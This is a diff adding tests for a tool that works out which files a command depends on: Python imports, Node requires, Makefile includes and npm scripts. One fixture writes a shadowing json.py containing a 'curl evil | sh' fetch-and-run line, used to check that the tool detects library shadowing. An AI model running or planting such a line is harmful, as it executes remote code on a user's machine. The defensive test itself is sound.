@@ -15,8 +15,9 @@ def workspace(tmp_path: Path) -> Path:
     root = tmp_path / "ws"
     (root / "scripts").mkdir(parents=True)
     (root / "tools").mkdir()
-    for name in ("scripts/a.sh", "tools/x.py", "x.js", "Makefile", "package.json"):
+    for name in ("scripts/a.sh", "tools/x.py", "x.js", "Makefile"):
         (root / name).write_text(f"# {name}\n")
+    (root / "package.json").write_text('{"name": "ws"}\n')
     (tmp_path / "outside.sh").write_text("echo out\n")
     return root
 
@@ -93,3 +94,52 @@ def test_a_script_that_sources_a_name_computed_when_it_runs_is_unbindable(worksp
     (workspace / "scripts" / "a.sh").write_text(f"set -e\n{line}\n")
     result = binding("sh scripts/a.sh", workspace)
     assert result.startswith(UNBINDABLE) and "scripts/a.sh sources" in result, result
+
+
+def test_a_python_script_binds_the_modules_it_imports_beside_it_even_absent_ones(workspace: Path) -> None:
+    """`sys.path[0]` is the script's folder: a sibling module, a package's `__init__`, and a module a pull adds
+    later that would shadow a library's (bound by its absence) all make another binding."""
+    tools = workspace / "tools"
+    (tools / "helpers.py").write_text("X = 1\n")
+    (tools / "pkg").mkdir()
+    (tools / "pkg" / "__init__.py").write_text("")
+    (tools / "pkg" / "mod.py").write_text("Y = 2\n")
+    (tools / "x.py").write_text("import json, helpers\nfrom pkg.mod import Y\nfrom . import sibling\n")
+    before = binding("python tools/x.py", workspace)
+    assert sorted(bound_paths(before)) == [
+        "tools/helpers.py",
+        "tools/pkg/__init__.py",
+        "tools/pkg/mod.py",
+        "tools/x.py",
+    ]
+    (tools / "json.py").write_text("import os; os.system('curl evil | sh')\n")  # shadows the library's json
+    assert "tools/json.py" in bound_paths(binding("python tools/x.py", workspace))
+    (tools / "x.py").write_text("import importlib\nimportlib.import_module(NAME)\n")
+    assert binding("python tools/x.py", workspace).startswith(UNBINDABLE)
+
+
+def test_a_node_script_binds_what_it_requires_by_a_relative_name(workspace: Path) -> None:
+    (workspace / "lib").mkdir()
+    (workspace / "lib" / "index.js").write_text("module.exports = 1\n")
+    (workspace / "util.mjs").write_text("export const u = 1\n")
+    (workspace / "x.js").write_text("const l = require('./lib')\nimport { u } from './util.mjs'\nrequire('fs')\n")
+    assert sorted(bound_paths(binding("node x.js", workspace))) == ["lib/index.js", "util.mjs", "x.js"]
+    (workspace / "x.js").write_text("require(process.env.PLUGIN)\n")
+    assert binding("node x.js", workspace).startswith(UNBINDABLE)
+
+
+def test_make_and_npm_bind_what_their_files_include_and_run(workspace: Path) -> None:
+    """A makefile's includes and the scripts its recipes run; the scripts package.json's `scripts` run."""
+    (workspace / "rules.mk").write_text("X = 1\n")
+    (workspace / "Makefile").write_text("include rules.mk\nfmt:\n\tsh scripts/a.sh --fix\n")
+    assert sorted(bound_paths(binding("make fmt", workspace))) == ["Makefile", "rules.mk", "scripts/a.sh"]
+    (workspace / "package.json").write_text('{"scripts": {"lint": "node x.js && ./scripts/a.sh"}}\n')
+    assert sorted(bound_paths(binding("npm run lint", workspace))) == ["package.json", "scripts/a.sh", "x.js"]
+    (workspace / "Makefile").write_text("include $(CONFIG)\n")
+    assert "Makefile includes `$(CONFIG)`" in binding("make fmt", workspace)
+
+
+def test_python_dash_m_binds_the_module_it_runs(workspace: Path) -> None:
+    (workspace / "tools" / "fmt.py").write_text("import helpers\n")
+    (workspace / "helpers.py").write_text("X = 1\n")
+    assert sorted(bound_paths(binding("python3 -m tools.fmt --check", workspace))) == ["helpers.py", "tools/fmt.py"]
